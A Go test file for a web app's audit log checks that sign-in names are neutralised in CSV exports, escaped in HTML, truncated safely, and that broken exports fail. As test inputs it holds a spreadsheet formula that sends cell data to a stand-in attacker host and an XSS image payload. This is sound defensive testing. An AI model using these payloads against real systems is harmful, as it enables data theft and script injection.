package handlers_test

import (
	"database/sql"
	"encoding/csv"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"unicode/utf8"
)

// A signed-out visitor types a spreadsheet formula as the user name at the sign-in page:
// the failed sign-in is audited with that name as its target, and the auditor who opens
// the CSV export in a spreadsheet must see text, not a formula that runs.
func TestAuditExportNeutralizesFormulas(t *testing.T) {
	a := setup(t)
	formula := `=HYPERLINK("http://evil.example/?"&A1,"open")`
	resp := a.postForm(t, a.client(t), "/login", url.Values{"name": {formula}, "password": {"x"}})
	if resp.StatusCode != http.StatusUnauthorized {
		t.Fatalf("POST /login with a wrong password = %d, want 401", resp.StatusCode)
	}
	admin := a.client(t)
	a.login(t, admin)
	resp, body := a.get(t, admin, "/audit/export?format=csv")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET /audit/export = %d, want 200", resp.StatusCode)
	}
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("export cell %q starts like a formula", cell)
			}
			found = found || cell == "'"+formula
		}
	}
	if !found {
		t.Errorf("the failed sign-in's name %q is not in the export as text; export:\n%s", formula, body)
	}
}

// A signed-out visitor's sign-in name is markup on the audit page only as text.
func TestAuditPageEscapesSignInName(t *testing.T) {
	a := setup(t)
	name := `<img src=x onerror=alert(1)>`
	a.postForm(t, a.client(t), "/login", url.Values{"name": {name}, "password": {"x"}})
	admin := a.client(t)
	a.login(t, admin)
	_, body := a.get(t, admin, "/audit")
	if strings.Contains(body, name) || !strings.Contains(body, "&lt;img src=x onerror=alert(1)&gt;") {
		t.Errorf("the audit page does not show the sign-in name %q escaped", name)
	}
}

// A signed-out visitor cannot grow the catalog by megabytes per attempt with made-up user
// names, nor store bytes in the audit log other than those its hash covers: the name
// audited for a failed sign-in is cut short and valid UTF-8.
func TestFailedSignInNameCut(t *testing.T) {
	a := setup(t)
	name := strings.Repeat("é", 100000) + "\xff"
	resp := a.postForm(t, a.client(t), "/login", url.Values{"name": {name}, "password": {"x"}})
	if resp.StatusCode != http.StatusUnauthorized {
		t.Fatalf("POST /login with a long name = %d, want 401", resp.StatusCode)
	}
	es, err := a.store.AuditEntries(t.Context(), 0, 0)
	if err != nil {
		t.Fatal(err)
	}
	if len(es) != 1 || es[0].Action != "user.login_failed" {
		t.Fatalf("audit = %+v, want one user.login_failed", es)
	}
	if got := es[0].Target; len(got) > 256 || !utf8.ValidString(got) || !strings.HasPrefix(got, "éé") {
		t.Errorf("audited name is %d bytes (valid UTF-8 %v), want a valid prefix of the name of at most 256 bytes", len(got), utf8.ValidString(got))
	}
	c, err := a.store.CheckAuditChain(t.Context())
	if err != nil || c.Problem != nil {
		t.Errorf("CheckAuditChain = %+v, %v; want it to hold", c.Problem, err)
	}
}

// An export that fails after its first bytes were sent must not end like a whole file: the
// connection is cut, so that the auditor's download fails instead of holding a log that
// silently stops short. Here an entry's detail was made unreadable behind Backstop's back.
func TestAuditExportCutShortFails(t *testing.T) {
	a := setup(t)
	admin := a.client(t)
	a.login(t, admin)
	// Enough entries that the download has sent its head and some before the bad one.
	for range 40 {
		a.get(t, admin, "/audit/export?format=json")
	}
	db, err := sql.Open("sqlite", a.catalog)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	if _, err := db.Exec(`PRAGMA ignore_check_constraints = ON; UPDATE audit_log SET detail = '{"format":' WHERE id = 40`); err != nil {
		t.Fatal(err)
	}
	resp, err := admin.Get(a.srv.URL + "/audit/export?format=json")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err == nil {
		t.Errorf("GET /audit/export over an unreadable entry = %d with a complete body, want the download cut:\n%s", resp.StatusCode, body)
	}
}
